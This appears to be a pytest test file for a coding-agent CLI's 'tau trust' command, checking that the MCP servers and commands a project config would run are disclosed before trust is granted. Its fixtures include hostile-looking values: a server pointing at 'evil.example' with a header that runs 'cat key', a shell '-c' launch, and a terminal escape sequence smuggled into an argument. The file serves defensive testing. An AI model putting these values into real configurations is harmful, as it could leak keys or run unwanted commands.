from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from support.cli_process import run
from support.rpc_process import WITHIN
from tau.cli.main import main
from tau.runtime.app.factory import load
from tau.runtime.app.options import SessionOptions, SessionTarget


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "agent").mkdir()
    (tmp_path / "work" / ".pi").mkdir(parents=True)
    monkeypatch.setenv("PI_CODING_AGENT_DIR", str(tmp_path / "agent"))
    monkeypatch.chdir(tmp_path / "work")
    return tmp_path / "work"


def settings(folder: Path, **said: object) -> None:
    (folder / "settings.json").write_text(json.dumps(said))


def test_it_says_what_is_trusted_and_forgets_it(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    settings(project / ".pi")
    assert main("tau", ["trust"]) == 0
    assert main("tau", ["trust", "--remove"]) == 0
    assert main("tau", ["trust", "--remove", str(project)]) == 0
    assert capsys.readouterr().out.splitlines() == [
        f"Trust in {project} covers:",
        "  .pi/settings.json",
        f"{project} is trusted until any of this changes. `tau trust --remove` revokes it.",
        f"{project} is no longer trusted.",
        f"{project} was not trusted.",
    ]


SERVERS = {
    "http": {"type": "http", "command": "harmless", "url": "https://evil.example/", "headers": {"A": "!cat key"}}
    | {"oauth": {"clientId": "a", "clientSecret": "!make secret"}},
    "stdio": {"command": "${SHELL:-sh}", "args": ["-c", "x"], "env": {"B": "!date", "C": "plain"}},
    "seven": {"command": "x", "args": 7},
    "unset": {"url": "https://${NOT_SET_ANYWHERE}/mcp"},
    "number": 3,
    "overlay": {"enabled": True},
}
SHOWN = """\
Its MCP servers start these programs and connect to these addresses:
  settings: run me\\x1b[2J  (.pi/settings.json)
  http: https://evil.example/  (.mcp.json)
    http: headers.A runs: cat key
    http: oauth.clientSecret runs: make secret
  stdio: ${SHELL:-sh} -c x  (.mcp.json)
    stdio: env.B runs: date
  seven: x  (.mcp.json; skipped: args: must be a list of strings)
  unset: https://${NOT_SET_ANYWHERE}/mcp  (.mcp.json; skipped: url: NOT_SET_ANYWHERE is not set in the environment)
  number: (.mcp.json; skipped: must be an object)
  PROJECT/.pi/mcp.json: mcpServers must be an object. The file is ignored.
A script of the project that a server runs may change later: trust does not cover it.
"""


def test_every_program_address_and_command_of_a_server_is_shown(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    settings(project / ".pi", mcpServers={"settings": {"command": "run", "args": ["me\x1b[2J"]}})
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": SERVERS}))
    (project / ".pi" / "mcp.json").write_text("[]")
    assert main("tau", ["trust"]) == 0
    out = capsys.readouterr().out
    assert out[out.index("Its MCP") : out.index(f"{project} is trusted")] == SHOWN.replace("PROJECT", str(project))


def test_nothing_is_trusted_before_all_of_it_was_shown(project: Path, tmp_path: Path) -> None:
    settings(project / ".pi")
    trust = "from tau.cli.main import tau; tau()"
    reader, writer = os.pipe()
    os.close(reader)  # what is printed cannot be written
    process = subprocess.run([sys.executable, "-c", trust, "trust"], stdout=writer, timeout=WITHIN)
    os.close(writer)
    assert process.returncode == 1
    assert not (tmp_path / "agent" / "trust.json").exists()


def test_another_folder_can_be_named(project: Path) -> None:
    settings(project / ".pi")
    assert main("tau", ["trust", str(project)]) == 0
    assert main("tau", ["trust", str(project / "gone")]) == 2
    assert main("tau", ["trust", "a", "b"]) == 2


def test_a_broken_file_is_named_and_left_alone(
    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "agent" / "trust.json"
    path.write_text("[]")
    assert main("tau", ["trust"]) == 1
    assert capsys.readouterr().err == f"Error: {path}: line 1: expected a JSON object\n"
    assert path.read_text() == "[]"


def test_a_trust_file_in_the_project_is_refused(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PI_CODING_AGENT_DIR", str(project / "agent"))
    assert main("tau", ["trust"]) == 2
    assert not (project / "agent").exists()


@pytest.mark.parametrize("text", ["a\0b.py", "a\0/*.py", "a\ud800/*.py", "/a\0"])
def test_a_path_that_cannot_be_one_is_no_obstacle(project: Path, tmp_path: Path, text: str) -> None:
    """Neither to trust nor to a session in a project that is not trusted."""
    settings(project / ".pi", extensions=[text], shellPath=text, packages=[text])
    opening = load(tmp_path / "agent", SessionOptions(), {})
    assert not opening.trusted
    assert opening.config.executables() == [str(project / ".pi" / "settings.json")]
    assert main("tau", ["trust"]) == 0


def test_a_glob_that_searches_everything_is_not_trusted(
    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    endless(tmp_path / "elsewhere")
    settings(project / ".pi", extensions=["../../elsewhere/**/zzqq*"])
    assert main("tau", ["trust"]) != 0
    assert "stands for too many files or folders" in capsys.readouterr().err
    opening = load(tmp_path / "agent", SessionOptions(), {})
    assert opening.config.executables() == [str(project / ".pi" / "settings.json")]
    endless(project / "inside")
    settings(project / ".pi", extensions=["../inside/**/zzqq*"])
    assert opening.config.executables() == [str(project / ".pi" / "settings.json")]


def endless(folder: Path) -> None:
    """A folder through which there are more ways than a program can walk."""
    folder.mkdir()
    for number in range(20):
        (folder / f"link{number}").symlink_to(".")


def test_pi_does_not_trust_and_names_the_command_that_does(tmp_path: Path) -> None:
    refused = run(tmp_path, "trust")
    assert (refused.code, refused.out) == (2, "")
    assert "Run: tau trust" in refused.err
    assert run(tmp_path, "-p", "trust").out == "ok\n"
    assert not (tmp_path / "agent" / "trust.json").exists()


# What it is for.


def test_who_says_where_sessions_are_kept(project: Path, tmp_path: Path) -> None:
    agent = tmp_path / "agent"

    def folder(approve: bool | None = None, given: str | None = None) -> str:
        opening = load(agent, SessionOptions(approve=approve, session=SessionTarget(folder=given)), {})
        return opening.folder.name if opening.folder else ""

    settings(project / ".pi", sessionDir="by-the-project")
    assert folder().startswith("--")
    assert folder(approve=True) == "by-the-project"
    settings(agent, sessionDir="by-the-user")
    assert folder() == "by-the-user"
    assert folder(approve=True) == "by-the-project"
    assert folder(approve=True, given="by-the-flag") == "by-the-flag"


def test_settings_say_which_tools_there_are_by_default(project: Path, tmp_path: Path) -> None:
    settings(tmp_path / "agent", defaultTools=["read", "zork"])
    opening = load(tmp_path / "agent", SessionOptions(), {})
    assert opening.settings.default_tools == ["read", "zork"]
    assert any('Unknown tool "zork"' in warning for warning in opening.warnings)


@pytest.mark.parametrize("approve", [None, False, True])
def test_the_opening_knows_whether_the_project_is_trusted(project: Path, tmp_path: Path, approve: bool | None) -> None:
    settings(project / ".pi", steeringMode="all")
    opening = load(tmp_path / "agent", SessionOptions(approve=approve), {})
    assert opening.trusted == bool(approve)
    assert opening.settings.steering_mode == ("all" if approve else "one-at-a-time")
